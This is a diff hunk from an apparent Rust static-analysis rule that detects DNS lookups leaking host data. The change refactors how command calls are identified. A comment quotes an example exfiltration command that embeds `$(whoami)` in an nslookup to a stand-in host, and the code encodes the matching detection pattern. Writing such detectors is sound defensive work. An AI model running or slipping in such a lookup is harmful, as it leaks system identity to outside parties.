@@ -21,7 +21,7 @@ pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
     // address (`gethostbyname(gethostname())`); a fingerprint sent from code is SA-101's.
     // A command line the code runs (`os.system("nslookup $(whoami).x.example")`) is a script's.
     let script = is_script(ctx.file);
-    let command = |c: &&crate::facts::Call| script || c.options.iter().any(|o| o == crate::facts::python::COMMAND);
+    let command = |c: &&crate::facts::Call| script || c.is_command();
     for c in ctx.facts.calls.iter().filter(|c| LOOKUPS.contains(&c.name.as_str())).filter(command) {
         let arg = c.first.as_deref().unwrap_or("").to_ascii_lowercase();
         if HOST_DATA.iter().any(|h| arg.contains(h)) && (arg.contains('`') || arg.contains('$') || arg.contains('%')) {
